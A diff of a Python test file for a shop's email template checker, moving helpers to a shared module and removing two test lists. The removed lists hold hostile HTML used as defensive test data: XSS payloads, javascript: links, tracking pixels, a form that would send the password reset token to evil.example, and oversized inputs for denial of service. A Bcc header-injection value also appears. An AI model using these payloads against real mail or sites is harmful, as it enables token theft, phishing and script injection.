@@ -11,40 +11,17 @@ from app.domain.mails.own_templates import (
     ValueType,
     sample_texts,
 )
-from app.domain.urls.redirects import redirect_problem
-from app.domain.values.errors import Problem
 from app.ports.mail import OwnTemplateBroken
-from tests.hostile.cpu import bound, slowest
-
-LINK = "https://shop.example.com/reset?email=a%40b&token=se<same"
-TEXT = "Hello,\n\n{{ link }}\n"
-HTML = '<p>Hello {{ recipient }}, <a href="{{ link }}">choose a password</a>.</p>\n'
-NOTICE = "Hello\n{% if not_me %}\n{{ not_me }}\n{% endif %}\n"
-
-
-def url_rule(url: str) -> Problem | None:
-    return redirect_problem(url, ("shop.example.com",), development=False)
-
-
-def problems(
-    kind: MailKind = MailKind.PASSWORD_RESET,
-    *,
-    subject: str = "Reset your password",
-    html: str = HTML,
-    text: str = TEXT,
-) -> tuple[Problem, ...]:
-    return check_template(kind, OwnTemplate(subject, html, text), url_rule)
-
-
-def only_problem(**sources: str) -> Problem:
-    found = problems(**sources)  # type: ignore[arg-type]
-    assert found, sources
-    return found[0]
-
-
-def notice(html: str) -> tuple[Problem, ...]:
-    return problems(MailKind.PASSWORD_CHANGED, html=html, text=NOTICE)
-
+from tests.builders.mail_templates import (
+    HTML,
+    LINK,
+    NOTICE,
+    TEXT,
+    notice,
+    only_problem,
+    problems,
+    url_rule,
+)
 
 NOT_ME = '{% if not_me %}<p><a href="{{ not_me }}">Not me</a></p>{% endif %}'
 ATTACKS = [
@@ -166,116 +143,6 @@ def test_line_of_a_fault_is_the_one_that_the_author_sees() -> None:
     assert only_problem(html=html).lines == (6,)
 
 
-LOADS = [
-    '<img src="https://evil.example/pixel.png">',
-    '<img src="//evil.example/pixel.png">',
-    '<img src="data:image/png;base64,AAAA">',
-    '<img src="https://shop.example.com/pixel.png">',
-    '<img src="cid:logo@mail" srcset="https://evil.example/a 2x">',
-    '<img src="{{ link }}">',
-    '<img src="https://evil.example/?{{ link }}">',
-    '<table background="https://evil.example/a"></table>',
-    '<p style="background:url(https://evil.example/a)">a</p>',
-    '<p style="background:u\\72l(https://evil.example/a)">a</p>',
-    '<p style="background:&#117;rl(https://evil.example/a)">a</p>',
-    "<p style=\"background:image-set('https://evil.example/a' 1x)\">a</p>",
-    '<p style="width:expression(alert(1))">a</p>',
-    '<p style="{{ recipient }}">a</p>',
-    "<style>@import 'https://evil.example/a.css';</style>",
-    "<style>@font-face { font-family: a; src: url(https://evil.example) }</style>",
-    "<style>a { background: URL(https://evil.example) }</style>",
-    "<style>{{ recipient }}</style>",
-    "<style>a {",
-    "<style>{% if recipient %}a{% endif %}</style>",
-    '<link rel="stylesheet" href="https://evil.example/a.css">',
-    "<script>alert(1)</script>",
-    "<script src='https://evil.example/a.js'></script>",
-    '<iframe src="https://evil.example"></iframe>',
-    '<object data="https://evil.example"></object>',
-    '<video src="https://evil.example"></video>',
-    "<svg><image href='https://evil.example'/></svg>",
-    '<form action="https://evil.example"><input name="t" value="{{ link }}"></form>',
-    "<button>a</button>",
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
-    '<p onclick="alert(1)">a</p>',
-    "<p onmouseover='alert(1)'>a</p>",
-    '<a href="javascript:alert(1)">a</a>',
-    '<a href="JaVaScRiPt:alert(1)">a</a>',
-    '<a href="java&#115;cript:alert(1)">a</a>',
-    '<a href=" javascript:alert(1)">a</a>',
-    '<a href="data:text/html,a">a</a>',
-    '<a href="vbscript:a">a</a>',
-    '<a href="https://evil.example/">a</a>',
-    '<a href="https://shop.example.com@evil.example/">a</a>',
-    '<a href="https://shop.example.com.evil.example/">a</a>',
-    '<a href="//evil.example/">a</a>',
-    '<a href="http://shop.example.com/">a</a>',
-    '<a href="https://evil.example/?{{ link }}">a</a>',
-    '<a href="{{ link }}@evil.example">a</a>',
-    '<a href=" {{ link }}">a</a>',
-    '<a href="{{ recipient }}">a</a>',
-    "<a href={{ link }}>a</a>",
-    '<a href="{% if recipient %}{{ link }}{% endif %}">a</a>',
-    '<a {{ recipient }}="a">a</a>',
-    '<a href="#" href="https://evil.example/">a</a>',
-    '<a title="{{ link }}" href="#">a</a>',
-    '<a href="https://shop.example.com/">{{ link }}</a>',
-    '<a href="https://shop.example.com/"><a href="{{ link }}">a</a></a>',
-    '<a href="#">{% if recipient %}{{ link }}{% endif %}</a>',
-    "<p>https://evil.example/?token={{ link }}</p>",
-    "<p>https://evil.example/?token=<b>{{ link }}</b></p>",
-    "<p>https://evil.example/?token={# #}{{ link }}</p>",
-    "<p>https://shop.example.com/{{ link }}</p>",
-    "<p>shop.example/?token={{ link }}</p>",
-    "<p>shop.example/?token={% if link %}{{ link }}{% endif %}</p>",
-    "<p>{% if recipient %}evil.example/{% else %} {% endif %}{{ link }}</p>",
-    "<p>{{ recipient }}{{ link }}</p>",
-    "<p>evil.example/?&nbsp;{{ link }}</p>",
-    "<p>Visit https://evil.example/ now</p>",
-    "<p>Visit &#104;ttps://evil.example/ now</p>",
-    "<p>Visit www.evil.example now</p>",
-    "<p>https://{{ shop.name }}/</p>",
-    "<!-- <script> -->",
-    "<!-- {{ link }} -->",
-    "<!--[if mso]><a href='https://evil.example'>a</a><![endif]-->",
-    "<!--> <img src=x onerror=alert(1)> -->",
-    "<!-- no end",
-    "<![CDATA[ a ]]>",
-    "<?php a ?>",
-    "<p",
-    "<p title='a",
-    "<p title=a>a</p>",
-    "<p/title='a'>a</p>",
-    "< script>alert(1)</script>",
-    "<scr{# #}ipt>alert(1)</scr{# #}ipt>",
-    "<scr{% if recipient %}ipt>{% endif %}",
-    "<p>a < b</p>",
-    "<html><body></body></html>",
-    "<p>\ue000</p>",
-    "<p>\u202etxet</p>",
-    "<math></math>",
-    "<template></template>",
-    "<noscript></noscript>",
-    "<plaintext>",
-    "<xmp></xmp>",
-    "<textarea></textarea>",
-    "</script>",
-    "<x-y></x-y>",
-]
-"""HTML that loads, runs, sends or misleads; each beside a template that is fine."""
-
-
-@pytest.mark.parametrize("attack", LOADS)
-def test_html_that_loads_runs_or_misleads_is_refused(attack: str) -> None:
-    found = problems(html=f"{HTML}\n{attack}")
-    assert found
-    assert {problem.field for problem in found} == {"html"}
-    assert found[0].lines
-    assert found[0].lines[0] >= 2
-    assert found[0].message
-
-
 @pytest.mark.parametrize(
     "text",
     [
@@ -313,50 +180,6 @@ def test_subject_is_one_line() -> None:
     texts = {"link": LINK, "recipient": "a@example.com\nBcc: b@example.com"}
     written = render_template(MailKind.PASSWORD_RESET, template, texts, shop_name="Shop")
     assert written.subject == "Hello Bcc: a@example.com Bcc: b@example.com"
-
-
-@pytest.mark.parametrize(
-    "source",
-    [
-        "a" * 1_000_000,
-        "{{ recipient }}" * 4_300,
-        "{" * 60_000,
-        "{{" * 30_000,
-        "{{ " + "(" * 60_000,
-        "{{ " + "[" * 60_000,
-        "{% if " + "not " * 16_000 + "recipient %}{% endif %}",
-        "{% if recipient" + " and recipient" * 4_000 + " %}{% endif %}",
-        "{% if recipient %}" * 3_000 + "{% endif %}" * 200,
-        "{% if recipient %}" * 1_000 + "{% endif %}" * 1_000,
-        "{% if recipient %}a" + "{% elif recipient %}a" * 2_500 + "{% endif %}",
-        "{{ recipient" + "|upper" * 10_000 + " }}",
-        "{{ recipient" + ".a" * 30_000 + " }}",
-        "{{ '" + "\\" * 60_000,
-        "{#" * 30_000,
-        "{% raw %}" * 7_000,
-        "<" * 60_000,
-        "<p " + "a " * 30_000,
-        "<p " + 'a="b" ' * 10_000,
-        "<p" + " " * 60_000,
-        "<!--" + "-" * 60_000,
-        "<!--" * 15_000,
-        "<style>" * 9_000,
-        "<style>" + "a" * 60_000 + "(</style>",
-        "<style>" + "-" * 60_000 + "</style>",
-        "http:" * 12_000,
-        "a:/" * 20_000,
-        "www." * 15_000,
-        "a" * 30_000 + "www." * 5_000,
-        "&#" * 30_000,
-        "\n" * 60_000 + "<p>" * 1_000,
-        "{{ recipient }}\n" * 1_900 + "<b>" * 10_000 + "<script>",
-    ],
-)
-def test_huge_and_deep_sources_are_checked_within_bounded_time(source: str) -> None:
-    taken = slowest(lambda: problems(html=HTML + source, text=TEXT + source))
-    assert taken < bound()
-    if "(" in source or "<script>" in source or len(source) > 64 * 1024:
-        assert problems(html=HTML + source)
 
 
 def test_output_is_capped() -> None:
